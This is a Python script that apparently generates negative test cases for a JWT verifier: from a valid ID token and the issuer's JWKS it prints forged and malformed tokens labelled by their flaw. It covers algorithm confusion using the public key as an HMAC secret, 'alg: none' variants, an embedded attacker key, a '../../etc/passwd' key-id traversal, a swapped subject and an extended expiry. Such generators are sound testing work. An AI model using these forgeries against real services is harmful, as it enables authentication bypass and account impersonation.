"""Makes tokens out of a good token that only somebody who cheats would bring, and prints them by what is wrong with them.

The argument is a JSON object:
  token              an ID token that is good
  keys               the document at /.well-known/jwks.json
"""

import base64
import hashlib
import hmac
import json
import sys
import time

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa


def part(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def main():
    job = json.loads(sys.argv[1])
    head, payload, signature = job["token"].split(".")
    claims = jwt.decode(job["token"], options={"verify_signature": False})
    kid = jwt.get_unverified_header(job["token"])["kid"]
    own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    public = jwt.PyJWK([key for key in job["keys"]["keys"] if key["kid"] == kid][0]).key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    mixed = f'{part({"alg": "HS256", "kid": kid, "typ": "JWT"})}.{payload}'
    mac = base64.urlsafe_b64encode(hmac.new(public, mixed.encode(), hashlib.sha256).digest()).rstrip(b"=").decode()

    def signed(**options):
        return jwt.encode({**claims, **options.pop("claims", {})}, own, algorithm="RS256", headers={"kid": kid, **options})

    middle = len(signature) // 2
    json.dump({
        "another key under our name": signed(),
        "another key that stands in the token": signed(jwk=json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(own.public_key()))),
        "a name that no key has": signed(kid="nobody"),
        "the name of a file": signed(kid="../../etc/passwd"),
        "our public key as a secret": f"{mixed}.{mac}",
        "no signature, with the words for it": f'{part({"alg": "none", "kid": kid})}.{payload}.',
        "no signature, in other letters": f'{part({"alg": "nOnE"})}.{payload}.',
        "no signature, without the words for it": f"{head}.{payload}.",
        "another subject": f'{head}.{part({**claims, "sub": "other", "user_id": "other"})}.{signature}',
        "a longer life": f'{head}.{part({**claims, "exp": int(time.time()) + 10**9})}.{signature}',
        "another byte of the signature":
            f"{head}.{payload}.{signature[:middle]}{'A' if signature[middle] != 'A' else 'B'}{signature[middle + 1:]}",
        "two parts": f"{head}.{payload}",
        "four parts": f"{head}.{payload}.{signature}.{signature}",
        "a part that is no JSON": f"{head}.AAAA.{signature}",
        "nothing but dots": "..",
        "a great many dots": "." * 10_000,
        "a line after its end": job["token"] + "\n",
        "no token": "eyJ",
    }, sys.stdout)


main()
